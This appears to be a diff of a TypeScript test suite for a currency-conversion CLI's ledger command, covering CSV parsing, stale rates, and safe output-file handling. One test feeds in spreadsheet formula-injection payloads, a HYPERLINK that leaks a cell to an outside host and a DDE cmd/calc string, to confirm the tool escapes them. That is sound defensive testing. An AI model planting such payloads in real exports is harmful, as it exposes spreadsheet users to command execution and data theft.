@@ -1,5 +1,5 @@
 import { spawnSync } from 'node:child_process';
-import { createReadStream, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, createReadStream, existsSync, linkSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -10,7 +10,10 @@ import { convertLedger } from '../../src/cli/ledger/convertLedger.js';
 import { csvRecords } from '../../src/cli/ledger/csvRecords.js';
 import { runCli } from '../../src/cli/runCli.js';
 import { defaultDataset } from '../../src/data.js';
-import { convert } from '../../src/index.js';
+import { importNbp } from '../../src/importers/index.js';
+import { convert, loadDataset } from '../../src/index.js';
+import { bankFile } from '../importers/banks/recorded.js';
+import { catalog } from '../importers/catalog.js';
 
 const dir = mkdtempSync(join(tmpdir(), 'ratebook-ledger-'));
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
@@ -208,6 +211,162 @@ describe('ratebook ledger', () => {
 async function collect(text: string): Promise<(readonly string[])[]> {
   const { Readable } = await import('node:stream');
   const out: (readonly string[])[] = [];
-  for await (const record of csvRecords(Readable.from([`${text}\n`]))) out.push(record.cells!);
+  for await (const record of csvRecords(Readable.from([text.endsWith('\n') ? text : `${text}\n`]))) out.push(record.cells!);
   return out;
+}
+
+describe('ratebook ledger keeps every row', () => {
+  for (const rows of [2_000, 20_000]) {
+    it(`converts every other row of ${rows.toLocaleString('en')} with a stray quote on line 3, which it reports`, async () => {
+      const lines = ['id,amount,currency,date', ...Array.from({ length: rows }, (_, i) => `A-${i},10,USD,2025-06-02`)];
+      lines[2] = `"${lines[2]}`;
+      const { status, stdout, stderr } = await ratebook('ledger', file(`stray-${rows}.csv`, `${lines.join('\n')}\n`), '--to', 'EUR');
+      expect(status).toBe(1);
+      const reported = stderr.trimEnd().split('\n');
+      expect(reported).toEqual([
+        'ratebook: line 3: invalid_parameter: the record does not parse as CSV: the file ends inside a quoted field.',
+        `ratebook: invalid_parameter: 1 of ${rows} rows could not be converted (lines above); the others were.`,
+      ]);
+      const out = stdout.trimEnd().split('\n');
+      expect(out).toHaveLength(rows + 1);
+      expect(out[2]).toBe('"""A-1,10,USD,2025-06-02",,,,,,,');
+      const c = convert(defaultDataset, { from: 'USD', to: 'EUR', amount: '10', date: '2025-06-02' }, S);
+      expect(out.filter((line, i) => i > 0 && i !== 2 && line === `A-${i - 1},10,USD,2025-06-02,${c.rate},${c.date},${c.result},false`)).toHaveLength(rows - 1);
+    });
+  }
+
+  it('reports a short row and a long one, and writes them without shifting a column', async () => {
+    const csv = file('short.csv', 'id,amount,currency,date\nA-1,10,USD\nA-2,10,USD,2025-06-02,x\nA-3,10,USD,2025-06-02\n');
+    const { status, stdout, stderr } = await ratebook('ledger', csv, '--to', 'EUR');
+    expect(status).toBe(1);
+    expect(stderr).toContain('ratebook: line 2: invalid_parameter: the record does not parse as CSV: it has 3 fields, the header 4.');
+    expect(stderr).toContain('ratebook: line 3: invalid_parameter: the record does not parse as CSV: it has 5 fields, the header 4.');
+    const records = await collect(stdout);
+    expect(records.map((r) => r.length)).toEqual([8, 8, 8, 8]);
+    expect(records.slice(1, 3)).toEqual([
+      ['A-1,10,USD', '', '', '', '', '', '', ''],
+      ['A-2,10,USD,2025-06-02,x', '', '', '', '', '', '', ''],
+    ]);
+    expect(records[3]!.slice(0, 4)).toEqual(['A-3', '10', 'USD', '2025-06-02']);
+  });
+
+  it('keeps CRLF, CR and LF inside quoted cells as written', async () => {
+    const csv = file('breaks.csv', 'memo,amount,currency,date\r\n"a\r\nb",1,USD,2025-06-02\r\n"c\rd",1,USD,2025-06-02\r\n"e\nf",1,USD,2025-06-02\r\n');
+    const { status, stdout } = await ratebook('ledger', csv, '--to', 'EUR');
+    expect(status).toBe(0);
+    expect(stdout).toContain('\n"a\r\nb",1,USD,');
+    expect(stdout).toContain('\n"c\rd",1,USD,');
+    expect(stdout).toContain('\n"e\nf",1,USD,');
+    expect((await collect(stdout)).map((r) => r[0])).toEqual(['memo', 'a\r\nb', 'c\rd', 'e\nf']);
+  });
+
+  it("writes a cell a spreadsheet would run as a formula with a leading ', and numbers as they are", async () => {
+    const cells = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '-2+3', '\r=1'];
+    const csv = file('formulas.csv', `memo,amount,currency,date\n${cells.map((c) => `${csvQuote(c)},-12.5,USD,2025-06-02`).join('\n')}\n`);
+    const { status, stdout } = await ratebook('ledger', csv, '--to', 'EUR');
+    expect(status).toBe(0);
+    const records = (await collect(stdout)).slice(1);
+    expect(records.map((r) => r[0])).toEqual(cells.map((c) => `'${c}`));
+    expect(records.every((r) => r[1] === '-12.5' && /^-[0-9.]+$/.test(r[6]!))).toBe(true);
+  });
+
+  it('adds stale (true past the data, as convert says), refuses with --max-age-days, and passes --policy to convert', async () => {
+    const csv = file('stale.csv', 'amount,currency,date\n10,USD,2025-06-02\n10,USD,2026-12-01\n');
+    const plain = await ratebook('ledger', csv, '--to', 'EUR');
+    expect(plain.status).toBe(0);
+    const late = convert(defaultDataset, { from: 'USD', to: 'EUR', amount: '10', date: '2026-12-01' }, S);
+    expect(late.stale).toBe(true);
+    expect(plain.stdout.split('\n').slice(1, 3).map((line) => line.split(',').at(-1))).toEqual(['false', 'true']);
+    expect(plain.stdout.split('\n')[2]).toBe(`10,USD,2026-12-01,${late.rate},${late.date},${late.result},true`);
+    const bounded = await ratebook('ledger', csv, '--to', 'EUR', '--max-age-days', '7');
+    expect(bounded.status).toBe(1);
+    expect(bounded.stderr).toMatch(/^ratebook: line 3: stale_rate: /);
+    expect(bounded.stdout.split('\n')[2]).toBe('10,USD,2026-12-01,,,,');
+    expect(await ratebook('ledger', csv, '--to', 'EUR', '--max-age-days', 'week')).toMatchObject({ status: 1, stdout: '', stderr: expect.stringContaining('invalid_option') });
+    expect(await ratebook('ledger', csv, '--to', 'EUR', '--policy', 'pl-pti')).toMatchObject({ status: 1, stdout: '', stderr: expect.stringContaining('invalid_option') });
+    expect(await ratebook('ledger', csv, '--to', 'EUR', '--policy', 'pl-pit', '--max-age-days', '7')).toMatchObject({
+      status: 1,
+      stdout: '',
+      stderr: expect.stringContaining('invalid_option'),
+    });
+  });
+
+  it('books each row under --policy exactly as convert does with the policy', async () => {
+    const nbp = importNbp(
+      ['nbp/nbp-1.json', 'nbp/nbp-2.json'].map((f) => ({ name: f.slice(4), bytes: bankFile(f) })),
+      { metadata: catalog, allowMinimalMetadata: true },
+    ).dataset;
+    const data = file('nbp.json', JSON.stringify(nbp));
+    const ds = loadDataset(nbp);
+    const csv = file('policy.csv', 'amount,currency,date\n100,EUR,2026-03-04\n250.5,USD,2026-03-03\n');
+    const { status, stdout, stderr } = await ratebook('ledger', csv, '--to', 'PLN', '--policy', 'pl-pit', '--round', 'minor', '--data', data);
+    expect([status, stderr]).toEqual([0, '']);
+    const rows = stdout.trimEnd().split('\n').slice(1);
+    [
+      ['100', 'EUR', '2026-03-04'],
+      ['250.5', 'USD', '2026-03-03'],
+    ].forEach(([amount, from, date], i) => {
+      const c = convert(ds, { from: from!, to: 'PLN', amount: amount!, date: date! }, { ...S, policy: 'pl-pit', round: 'minor' });
+      expect(rows[i]).toBe(`${amount},${from},${date},${c.rate},${c.date},${c.result},${c.stale === true}`);
+    });
+  });
+});
+
+describe('ratebook ledger keeps every file', () => {
+  it('refuses --out naming the input, by any spelling or link, before reading it, and leaves it byte for byte', async () => {
+    const input = file('self.csv', INVOICES);
+    symlinkSync(input, join(dir, 'self-link.csv'));
+    linkSync(input, join(dir, 'self-hard.csv'));
+    for (const out of [input, join(dir, '.', 'sub', '..', 'self.csv'), join(dir, 'self-link.csv'), join(dir, 'self-hard.csv')]) {
+      const { status, stdout, stderr } = await ratebook('ledger', input, '--to', 'EUR', '--out', out);
+      expect([status, stdout]).toEqual([2, '']);
+      expect(stderr).toMatch(/^ratebook: invalid_parameter: --out .* is the input .*\n$/);
+      expect(readFileSync(input, 'utf8')).toBe(INVOICES);
+    }
+  });
+
+  it('leaves an existing --out as it was when the run fails, and no temporary file beside it', async () => {
+    const folder = mkdtempSync(join(dir, 'keep-'));
+    const out = join(folder, 'booked.csv');
+    writeFileSync(out, 'the books of last year\n');
+    const noColumns = join(folder, 'cols.csv');
+    writeFileSync(noColumns, 'value,code,day\n1,USD,2025-06-02\n');
+    expect((await ratebook('ledger', noColumns, '--to', 'EUR', '--out', out)).status).toBe(1);
+    expect((await ratebook('ledger', join(folder, 'INVOICES.csv'), '--to', 'EUR', '--out', out)).status).toBe(1);
+    expect((await ratebook('ledger', noColumns, '--to', 'XYZ', '--out', out)).status).toBe(1);
+    expect(readFileSync(out, 'utf8')).toBe('the books of last year\n');
+    expect(readdirSync(folder).sort()).toEqual(['booked.csv', 'cols.csv']);
+    // A run that completes replaces it whole.
+    expect((await ratebook('ledger', file('replace.csv', INVOICES), '--to', 'EUR', '--out', out)).status).toBe(0);
+    expect(readFileSync(out, 'utf8').split('\n')).toHaveLength(6);
+    expect(readdirSync(folder).sort()).toEqual(['booked.csv', 'cols.csv']);
+  });
+
+  const unwritable: [string, () => string][] = [
+    ['a missing folder', () => join(dir, 'no-such-folder', 'out.csv')],
+    ['a path through a file', () => join(file('plain.txt', 'x'), 'out.csv')],
+    ['a folder', () => dir],
+    ['a read-only folder', () => readOnlyFolder()],
+  ];
+  if (existsSync('/dev/full')) unwritable.push(['/dev/full', () => '/dev/full']);
+  for (const [name, out] of unwritable) {
+    it(`answers an unwritable output (${name}) with one line and exit 2, never a stack trace`, async () => {
+      const path = out();
+      const { status, stdout, stderr } = await ratebook('ledger', file('w.csv', INVOICES), '--to', 'EUR', '--out', path);
+      expect([status, stdout]).toEqual([2, '']);
+      expect(stderr).toMatch(/^ratebook: invalid_parameter: cannot write .+: E[A-Z]+ \([a-z /-]+\); nothing was written\.\n$/);
+    });
+  }
+});
+
+// A folder this process cannot write to: read-only by its mode, or, for root (whom modes do not stop), /sys's.
+function readOnlyFolder(): string {
+  if (process.getuid?.() === 0) return '/sys/ratebook-ledger.csv';
+  const folder = mkdtempSync(join(dir, 'ro-'));
+  chmodSync(folder, 0o555);
+  return join(folder, 'out.csv');
+}
+
+function csvQuote(cell: string): string {
+  return /[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
 }
